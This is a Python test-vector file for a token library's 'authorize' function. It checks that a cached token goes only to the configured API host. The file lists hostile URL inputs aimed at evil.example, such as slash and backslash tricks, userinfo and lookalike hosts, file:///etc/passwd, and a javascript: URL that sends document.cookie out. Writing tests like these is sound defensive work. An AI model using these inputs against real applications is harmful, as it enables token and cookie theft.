"""authorize judges a URL the way WHATWG URL parsing (browsers, Node, fetch,
octokit) reads it: a token never goes to another host."""
from lib import *

IN = {"clientId": CID, "scopes": ["repo"], "baseUrl": "{server}"}
K = key(scopes=["repo"])
A = auth(scopes=["repo"])
STORE = {K: stored(A)}
HEADER = {"headers": {"authorization": "token " + TOK}}

FOREIGN = [
    ("scheme-no-slashes", "https:evil.example/x"),
    ("scheme-one-slash", "https:/evil.example/x"),
    ("http-scheme-no-slashes", "http:evil.example/x"),
    ("scheme-backslashes", "https:\\\\evil.example/x"),
    ("scheme-three-slashes", "https:///evil.example/x"),
    ("unc-backslashes", "\\\\evil.example\\x"),
    ("slash-backslash", "/\\evil.example/x"),
    ("scheme-relative", "//evil.example/x"),
    ("scheme-relative-leading-space", "  //evil.example/x"),
    ("tab-inside-slashes", "/\t/evil.example/x"),
    ("newline-inside-slashes", "/\n/evil.example/x"),
    ("upper-case-scheme-and-host", "HTTPS://EVIL.EXAMPLE/x"),
    ("javascript", "javascript:fetch('https://evil.example/'+document.cookie)"),
    ("file", "file:///etc/passwd"),
    ("data", "data:text/plain,hello"),
    ("userinfo-looks-like-ours", "{server}@evil.example/x"),
    ("host-suffix", "{server}.evil.example/x"),
    ("percent-encoded-host", "https://evil%2Eexample/x"),
    ("github-lookalike", "https://api.github.com.evil.example/user"),
    ("backslash-then-userinfo", "{server}\\@evil.example/x"),
]
for name, url in FOREIGN:
    vector("authorize-url-%s" % name,
           "authorize for %r: WHATWG URL parsing reads it as a URL to another host (or a doubtful one), so it answers no credentials, without reading the cache." % url,
           [10], export="authorize", input=dict(IN, method="GET", url=url), store=STORE, result={"headers": {}})

OURS = [
    ("relative-path", "/user"),
    ("relative-route", "user/repos"),
    ("absolute-api-with-query", "{server}/api/v3/user?per_page=1#top"),
]
for name, url in OURS:
    vector("authorize-url-ours-%s" % name,
           "authorize for %r, a route on the configured API: the cached token's header." % url,
           [10], export="authorize", input=dict(IN, method="GET", url=url), store=STORE, result=HEADER)
